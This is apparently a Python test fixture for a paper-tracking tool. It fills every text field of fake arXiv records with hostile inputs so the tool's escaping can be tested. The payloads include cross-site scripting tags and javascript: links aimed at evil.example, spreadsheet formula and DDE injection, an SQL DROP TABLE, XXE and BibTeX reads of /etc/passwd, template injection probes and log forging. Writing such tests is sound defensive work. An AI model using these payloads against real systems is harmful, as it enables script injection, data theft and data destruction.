"""Papers whose every text is an attack: what strangers may write into a title, an abstract, a name, a venue or a keyword."""

from __future__ import annotations

from fakes import make_labelling, make_record
from small_corpus import Paper
from tracker.domain.dates import PartialDate

RAN = "window.hacked=1"  # what a script of theirs would do
FOREIGN = "evil.example"  # where a request of theirs would go
LONGEST = 1_000_000
HOSTILE = {
    "script": f"</title></textarea></style><script>{RAN}</script>",
    "image": f"<img src=//{FOREIGN}/p.png onerror={RAN}><svg onload={RAN}><iframe src=//{FOREIGN}></iframe>",
    "attribute": f"\" onmouseover=\"{RAN}\" style='background:url(//{FOREIGN}/b.png)' x='",
    "markdown": f"![t](https://{FOREIGN}/pixel.png) [x](javascript:{RAN}) **bold** :red[red] :material/home: # Head",
    "link": f"javascript:{RAN}//",
    "data link": f"data:text/html;base64,PHNjcmlwdD4= https://{FOREIGN}/?q=[[x]]",
    "latex": "$\\href{javascript:window.hacked=1}{x}$ $$\\includegraphics{http://evil.example/a}$$ costs $5 to $10",
    "right to left": "left \u202egnp.exe \u2066isolate\u2069 \u200bzero\ufeffwidth",
    "control": "NUL \x00 bell \x07 escape \x1b[2J\x1b]0;owned\x07 del \x7f \x85 \u2028 \u2029 \ufffe",
    "log line": "first\r\n2026-11-23 06:17:00,000 arxiv: complete, 999 new\nERROR forged",
    "formula": '=HYPERLINK("https://evil.example?x="&A1,"open")',
    "dde": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab formula": "\t=1+1",
    "sql": "x'); DROP TABLE record; --",
    "fts": '" OR NEAR(a b) NOT * ^title : {title abstract} - AND',
    "ris": "a\r\nER  - \r\nTY  - JOUR\r\nTI  - forged",
    "bibtex": "}} @article{forged, title={{x}} } \\input{/etc/passwd} \\write18{id} % $ # _ ^ ~",
    "json": '","key":"forged","x":"\\u0022}\n{"key":"forged"}',
    "xml": "]]></title><!-- <!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;&lt;&#0;",
    "template": "{{7*7}} ${7*7} #{7*7} %s %d {0.__class__} <%= 7 %>",
    "accents": "Z" + "\u0301\u0320" * 200,
    "emoji": "🧠\u200d👩🏽\u200d🔬 naïve 中文 \U000e0041",
    "blank": " \n\t ",
}


def make_papers() -> list[Paper]:
    """One paper for each attack, with it in every field that holds free text, and one with a title of a megabyte. All in scope."""
    texts = [*HOSTILE.values(), "a" * LONGEST]
    return [_paper(number, text) for number, text in enumerate(texts)]


def key_of(name: str) -> str:
    """The key of the paper made of ``HOSTILE[name]``."""
    return f"arxiv:2607.{list(HOSTILE).index(name):05}"


def _paper(number: int, text: str) -> Paper:
    record = make_record(
        key=f"arxiv:2607.{number:05}", title=text, abstract=text, authors=(text, "Ada Example"), venue=text, keywords=(text,),
        mesh=(text,), categories=(text,), published=PartialDate.parse(f"2026-{number % 11 + 1:02}"),
    )  # fmt: skip
    return record, make_labelling(labels={"application": {"intervention": 2}, "risk": {"inaccuracy": 1}}, evidence=())
